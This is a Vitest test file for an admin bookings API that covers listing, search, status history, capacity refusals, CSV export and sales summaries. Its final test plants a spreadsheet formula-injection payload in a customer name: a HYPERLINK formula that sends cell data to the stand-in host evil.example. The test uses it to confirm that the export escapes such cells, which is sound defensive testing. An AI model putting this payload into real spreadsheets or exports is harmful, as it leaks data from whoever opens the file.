import { addDays, todayInKerala } from '#shared/domain/event-date.ts';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { adminBookingsEn } from '#shared/content/locales/admin-bookings.en.ts';
import { parseCsv } from '#shared/domain/csv.ts';
import { createOrder, createTestEvent, orderBody, paidProof, postBooking } from '#server/test/booking-helpers.ts';
import { createTestApp, type TestApp } from '#server/test/test-app.ts';
import { capacityMismatches } from '#server/test/capacity-mismatches.ts';

describe('admin bookings API', () => {
  let t: TestApp;
  let admin: string;
  let eventId: number;
  const references: string[] = [];
  beforeAll(async () => {
    t = await createTestApp();
    admin = await t.signIn('admin', 'owner2');
    eventId = await createTestEvent(t.database.db, { maxOrders: 3, title: 'Admin sale' });
    for (const [name, phone] of [
      ['Anu "Chechi" Thomas', '9847012345'],
      ['Biju Mathew', '9995500011'],
      ['Celine Joseph', '8089001122'],
    ]) {
      const order = await createOrder(t.app, { ...orderBody(eventId, { combo: 1 }, 100000), name, phone });
      references.push((await postBooking(t.app, paidProof(order.json().orderId))).json().booking.bookingId);
    }
  });
  afterAll(() => t.close());
  afterEach(async () => expect(await capacityMismatches(t.database.db)).toEqual([]));

  const get = (url: string) => t.app.inject({ method: 'GET', url, headers: { cookie: admin } });
  const setStatus = (id: number, status: string) =>
    t.app.inject({ method: 'PUT', url: `/api/bookings/${id}`, headers: { cookie: admin }, payload: { status } });

  it('lists bookings newest first in the shape the screens read, a page at a time', async () => {
    const page = (await get(`/api/bookings?eventId=${eventId}&pageSize=2`)).json();
    expect(page).toMatchObject({ success: true, total: 3, page: 1, pageSize: 2 });
    expect(page.data.map((b: { name: string }) => b.name)).toEqual(['Celine Joseph', 'Biju Mathew']);
    expect(page.data[0]).toMatchObject({
      status: 'pending',
      amount: 1000,
      amountPaise: 100000,
      discountApplied: 0,
      event: { id: eventId, title: 'Admin sale' },
      flags: [],
      history: [],
    });
    const second = (await get(`/api/bookings?eventId=${eventId}&pageSize=2&page=2`)).json();
    expect(second.data.map((b: { name: string }) => b.name)).toEqual(['Anu "Chechi" Thomas']);
  });

  it('finds bookings by name, phone or reference', async () => {
    const names = async (q: string) =>
      (await get(`/api/bookings?eventId=${eventId}&q=${encodeURIComponent(q)}`))
        .json()
        .data.map((b: { name: string }) => b.name);
    expect(await names('biju')).toEqual(['Biju Mathew']);
    expect(await names('80890 01122')).toEqual(['Celine Joseph']);
    expect(await names(references[0]!.toLowerCase())).toEqual(['Anu "Chechi" Thomas']);
    expect(await names('100%')).toEqual([]);
  });

  it('changes a status to any other, recording who and when; cancelled bookings free their slots', async () => {
    const [first] = (await get(`/api/bookings?eventId=${eventId}`)).json().data;
    for (const status of ['confirmed', 'delivered', 'cancelled']) {
      expect((await setStatus(first.id, status)).statusCode).toBe(200);
    }
    const changed = (await setStatus(first.id, 'pending')).json().booking;
    expect(changed.status).toBe('pending');
    expect(changed.history.map((h: { from: string; to: string; by: string }) => [h.from, h.to, h.by])).toEqual([
      ['pending', 'confirmed', 'owner2'],
      ['confirmed', 'delivered', 'owner2'],
      ['delivered', 'cancelled', 'owner2'],
      ['cancelled', 'pending', 'owner2'],
    ]);
    expect(changed.flags).toEqual([]);
  });

  it('refuses to bring back a cancelled booking whose slots were sold meanwhile, until the capacity is raised', async () => {
    const [first] = (await get(`/api/bookings?eventId=${eventId}`)).json().data;
    await setStatus(first.id, 'cancelled');
    const slots = async () =>
      (await t.app.inject({ method: 'GET', url: `/api/available-slots?eventId=${eventId}` })).json().availableSlots;
    expect(await slots()).toBe(1);
    const order = await createOrder(t.app, orderBody(eventId, { combo: 1 }, 100000));
    await postBooking(t.app, paidProof(order.json().orderId));
    expect(await slots()).toBe(0);

    const refused = await setStatus(first.id, 'confirmed');
    expect(refused.statusCode).toBe(409);
    expect(refused.json()).toMatchObject({
      code: 'adminBookings.refusals.noSlots',
      params: { reference: first.bookingId, needed: 1, available: 0 },
    });
    const stored = (await get(`/api/bookings?eventId=${eventId}`))
      .json()
      .data.find((b: { id: number }) => b.id === first.id);
    expect(stored).toMatchObject({ status: 'cancelled', flags: [] });
    expect(await slots()).toBe(0);
    expect(await capacityMismatches(t.database.db)).toEqual([]);

    // The owner raises the capacity by one: now it fits.
    const raised = await t.app.inject({
      method: 'PUT',
      url: `/api/events/${eventId}`,
      headers: { cookie: admin },
      payload: { title: 'Admin sale', date: addDays(todayInKerala(), 1), description: 'A sale', maxOrders: 4 },
    });
    expect(raised.statusCode, raised.body).toBe(200);
    const back = await setStatus(first.id, 'confirmed');
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json().booking).toMatchObject({ status: 'confirmed', flags: [] });
    expect(await slots()).toBe(0);
    expect(await capacityMismatches(t.database.db)).toEqual([]);
  });

  it('refuses an unknown status and an unknown booking', async () => {
    expect((await setStatus(1, 'shipped')).statusCode).toBe(400);
    const missing = await setStatus(987654, 'confirmed');
    expect(missing.statusCode).toBe(404);
    expect(missing.json()).toEqual({ success: false, error: 'Booking not found', code: 'refusals.bookings.notFound' });
  });

  it('exports what the filter matches as CSV', async () => {
    const response = await get(`/api/bookings/export?eventId=${eventId}&q=chechi`);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = response.body.trim().split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^"Reference","Status","Event"/);
    expect(lines[1]).toContain('"Anu ""Chechi"" Thomas"');
    expect(lines[1]).toContain('"1 × Combo Pack"');
    // Excel reads the file as UTF-8 only with the byte-order mark first.
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('writes the CSV’s created time on Kerala’s clock under a header that says so, and statuses in the admin’s words', async () => {
    const reference = references[1]!;
    // 20:45 UTC on 21 November is 02:15 on 22 November in Kerala.
    await t.database.db
      .updateTable('bookings')
      .set({ created_at: '2026-11-21T20:45:00.000Z' })
      .where('reference', '=', reference)
      .execute();
    const [listed] = (await get(`/api/bookings?q=${reference}`)).json().data;
    expect(listed).toMatchObject({ status: 'pending', createdAt: '2026-11-21T20:45:00.000Z' });

    const [header, row, ...rest] = parseCsv((await get(`/api/bookings/export?q=${reference}`)).body);
    expect(rest).toEqual([]);
    expect(header).toEqual([
      'Reference',
      'Status',
      'Event',
      'Event date',
      'Name',
      'Phone',
      'Address',
      'Pincode',
      'Items',
      'Subtotal',
      'Discount',
      'Total',
      'Payment id',
      'Refunded',
      'Refund pending',
      'Money',
      'Flags',
      'Created (IST)',
      'Event margin',
      'Event margin per plate',
      'Event margin if sold out',
    ]);
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('Reference')).toBe(reference);
    expect(cell('Created (IST)')).toBe('2026-11-22 02:15');
    expect(cell('Status')).toBe(adminBookingsEn.status.pending);
    expect(cell('Status')).not.toMatch(/pending/i);
  });

  it('sums the overview: counts by status, revenue without cancelled bookings, recent lists, sales per event', async () => {
    const summary = (await get('/api/bookings/summary')).json().data;
    // Every page, to the first one not full: the demo history's bookings of past sales are more than one page.
    const all: { status: string; amountPaise: number }[] = [];
    for (let page = 1, full = true; full; page += 1) {
      const rows = (await get(`/api/bookings?pageSize=100&page=${page}`)).json().data;
      all.push(...rows);
      full = rows.length === 100;
    }
    expect(summary.counts.total).toBe(all.length);
    for (const status of ['pending', 'confirmed', 'delivered', 'cancelled']) {
      expect(summary.counts[status]).toBe(all.filter((b) => b.status === status).length);
    }
    const revenue = all.filter((b) => b.status !== 'cancelled').reduce((sum, b) => sum + b.amountPaise, 0);
    expect(summary.revenuePaise).toBe(revenue);
    expect(summary.recentBookings).toHaveLength(3);
    expect(summary.recentEvents[0]).toMatchObject({ title: 'Admin sale' });
    const sale = summary.perEvent.find((e: { eventId: number }) => e.eventId === eventId);
    expect(sale).toMatchObject({ maxOrders: 4, slotsSold: 4, revenuePaise: 400000 });
  });

  it('never writes a cell a spreadsheet would run as a formula', async () => {
    const formulaEvent = await createTestEvent(t.database.db, { maxOrders: 2, title: 'Formula sale' });
    const order = await createOrder(t.app, {
      ...orderBody(formulaEvent, { combo: 1 }, 100000),
      name: '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
      address: '@SUM(1+1) Baker Junction',
    });
    await postBooking(t.app, paidProof(order.json().orderId));
    const body = (await get(`/api/bookings/export?eventId=${formulaEvent}`)).body;
    const row = body.trim().split('\r\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")"`);
    expect(row).toContain(`"'@SUM(1+1) Baker Junction"`);
    expect(row).not.toMatch(/(^|,)"[=+@-]/);
  });
});
